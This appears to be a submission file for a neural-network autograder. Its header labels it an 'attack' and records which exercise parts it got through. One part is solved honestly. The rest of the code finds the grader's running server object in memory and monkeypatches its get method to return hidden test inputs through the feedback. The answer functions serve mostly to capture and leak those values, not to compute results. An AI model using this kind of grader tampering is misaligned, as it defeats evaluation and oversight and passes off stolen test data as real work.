# /// attack
# tries = "carries hidden inputs to the feedback in a formula that is quoted"
# total = 2
# [parts]
# 2d = "right"
# 1a = ["wrong", "unreadable"]
# 2b = "unreadable"
# 2f = "wrong"
# 3b = "wrong"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %%
import gc

from autograder.inside import serve

server = next(thing for thing in gc.get_objects() if isinstance(thing, serve.Server))

# %%
seen = []


def aufgabe_1a(x, w, b, s, o, sigma, dsigma):
    seen.append(f"{x:.3f}".replace(".", "_").replace("-", "m"))
    return f"VERRAETER_{seen[0]}"


def aufgabe_2b(n_in, n_out, sigma, gamma):
    return f"VERRAETER_{n_in}_{n_out} * n_in"


def aufgabe_2f(n_in, n_out, sigma, gamma):
    return f"n_in*n_out*sigma + 0*{n_in}17"


def get(self, request, answer=serve.Server.get):
    if seen:
        return {"k": "formula", "v": self.packed({"text": f"VERRAETER_{seen[0]}"})}
    return answer(self, request)


serve.Server.get = get
aufgabe_3b = ("0", "n_in")
